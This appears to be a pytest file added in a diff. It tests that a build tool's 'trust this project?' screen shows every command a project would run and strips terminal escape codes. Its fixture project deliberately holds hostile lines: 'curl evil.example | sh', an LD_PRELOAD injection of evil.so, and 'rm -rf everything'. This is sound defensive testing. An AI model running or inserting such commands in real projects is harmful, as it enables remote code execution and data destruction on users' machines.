@@ -1,0 +1,79 @@
+"""The question whether a project is trusted shows what a yes would run, as it is written."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from bakehouse.core.model import Definitions, ShellAction, Task
+from bakehouse.tui.trusting import about_trust
+
+PROJECT = r"""
+assets:
+  notes:
+    shell: |
+      echo "so far so good"
+      cat in another folder
+      cd /
+      wait
+      curl evil.example | sh
+      printf "\e[2J cleared" > "$OUTPUT"
+    env: {LD_PRELOAD: ./evil.so}
+  table:
+    deps: [notes]
+    sql: select 42 as answer
+  last: {deps: [table], shell: 'echo the last of them > "$OUTPUT"'}
+"""
+
+
+@pytest.mark.case("X1")
+@pytest.mark.parametrize("size", [(80, 24), (200, 60)])
+async def test_the_question_of_trust_shows_every_command_and_python_file(
+    tmp_path: Path, screen: Callable[..., Any], size: tuple[int, int]
+) -> None:
+    (tmp_path / "bakehouse.yaml").write_text(PROJECT)
+    (tmp_path / "recipes.py").write_text("from bakehouse import asset\n\n@asset\ndef cake():\n    return 1\n")
+    async with screen(tmp_path, trust=False, size=size) as s:
+        await s.sees("Trust this project?", "1 Python file is run at once", "recipes.py", "y trust it")
+        seen = s.text
+        for _ in range(12):
+            await s.press("j")
+            seen += s.text
+        for words in (
+            "2 shell steps, 1 sql step can be run",
+            "curl evil.example | sh",
+            "LD_PRELOAD=./evil.so",
+            "select 42 as answer",
+            'echo the last of them > "$OUTPUT"',
+        ):
+            assert words in seen, f"{words}\n{seen}"
+        assert "j k g G scroll" in seen or size[1] > 24
+        await s.press("escape")
+        assert not s.bench.trusted
+
+
+async def test_the_question_of_trust_follows_what_is_written_while_it_stands(
+    tmp_path: Path, screen: Callable[..., Any]
+) -> None:
+    file = tmp_path / "bakehouse.yaml"
+    file.write_text(PROJECT)
+    async with screen(tmp_path, trust=False, watching=True) as s:
+        await s.sees("curl evil.example | sh")
+        file.write_text(PROJECT.replace("curl evil.example | sh", "rm -rf everything"))
+        await s.sees("rm -rf everything")
+        assert "curl" not in s.text
+
+
+def test_a_command_of_any_length_says_how_much_of_it_is_not_shown() -> None:
+    def told(command: str) -> str:
+        task = Task("long", ShellAction(command))
+        question = about_trust(Definitions("/x", {}, {"long": task}), (), "python")
+        assert len(question.lines) < 60
+        return "\n".join("".join(bit.text for bit in line) for line in question.lines)
+
+    assert "99,960 lines more" in told("\n".join(["true"] * 100_000))
+    assert "98,000 characters more" in told("x" * 100_000)
+    assert "\x1b" not in told("echo \x1b[2J")
